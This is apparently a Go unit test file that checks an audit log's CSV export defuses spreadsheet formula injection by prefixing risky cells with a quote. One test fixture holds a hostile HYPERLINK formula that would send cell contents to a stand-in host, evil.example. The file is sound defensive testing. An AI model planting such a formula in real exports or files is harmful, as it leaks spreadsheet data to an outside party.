package audit_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/flare-ilo/flare/audit"
)

func TestNeutralizeCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"},
		{"+1+2", "'+1+2"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"", ""},
		{"plain", "plain"},
		{"a=b", "a=b"},
		{"2026-03-14T09:00:00Z", "2026-03-14T09:00:00Z"},
	}
	for _, tt := range tests {
		if got := audit.NeutralizeCell(tt.in); got != tt.want {
			t.Errorf("NeutralizeCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestCSVWriterInert (R-IH3): a justification that is a formula comes out
// of the export as text, and the CSV reads back to the same cells.
func TestCSVWriterInert(t *testing.T) {
	var buf bytes.Buffer
	w := audit.NewCSVWriter(&buf)
	e := sampleEntry(4)
	e.Justification = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	if err := w.Write(e); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 || strings.Join(rows[0], ",") != strings.Join(audit.CSVHeader(), ",") {
		t.Fatalf("rows = %q", rows)
	}
	for i, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("column %s starts with %q: a spreadsheet would run it", audit.CSVHeader()[i], cell[0])
		}
	}
	if got := rows[1][len(rows[1])-1]; got != "'"+e.Justification {
		t.Errorf("justification = %q", got)
	}
	if got := rows[1][11]; got != "status;title" {
		t.Errorf("fields = %q", got)
	}
}

func TestCSVWriterEmpty(t *testing.T) {
	var buf bytes.Buffer
	if err := audit.NewCSVWriter(&buf).Flush(); err != nil {
		t.Fatal(err)
	}
	if got := strings.TrimSpace(buf.String()); got != strings.Join(audit.CSVHeader(), ",") {
		t.Errorf("empty export = %q, want the header", got)
	}
}
